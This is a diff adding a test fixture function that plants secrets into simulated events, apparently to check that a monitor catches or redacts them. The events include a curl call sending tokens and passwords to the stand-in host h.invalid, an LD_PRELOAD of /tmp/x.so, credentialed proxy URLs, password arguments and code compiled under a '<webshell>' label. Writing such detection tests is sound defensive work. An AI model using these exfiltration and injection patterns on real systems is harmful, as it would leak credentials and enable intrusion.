@@ -157,6 +157,22 @@ def alarms():
     return {"raised": len(raised), "caught": caught}
 
 
+def planted():
+    """A secret for each kind of event whose text may hold one; they come from a file that is gone then."""
+    with open(os.environ["PLANTED"]) as file:
+        secrets = json.load(file)
+    os.remove(os.environ["PLANTED"])
+    os.system('curl_absent -H "Authorization: Bearer %(header)s" https://bob:%(user)s@h.invalid/?token=%(query)s' % secrets)
+    led = {"LD_PRELOAD": "/tmp/x.so", "HTTPS_PROXY": "http://u:%(child)s@h.invalid" % secrets}
+    subprocess.run(["true", "--password=" + secrets["argv"]], env=led)
+    sys.audit("os.exec", "/bin/x", ["x", "--token", secrets["execve"]], None)
+    sys.audit("os.posix_spawn", "/bin/x", ["x", "--api-key=" + secrets["spawn"]], None)
+    exec(compile("password = '%(code)s'" % secrets, "<webshell>", "exec"))
+    os.environ["HTTPS_PROXY"] = "http://proxy:%(variable)s@h.invalid:3128" % secrets
+    os.environ["DB_PASSWORD"] = secrets["environment"]
+    invocation()
+
+
 def invocation():
     os.environ["_X_AMZN_TRACE_ID"] = "Root=1"
 
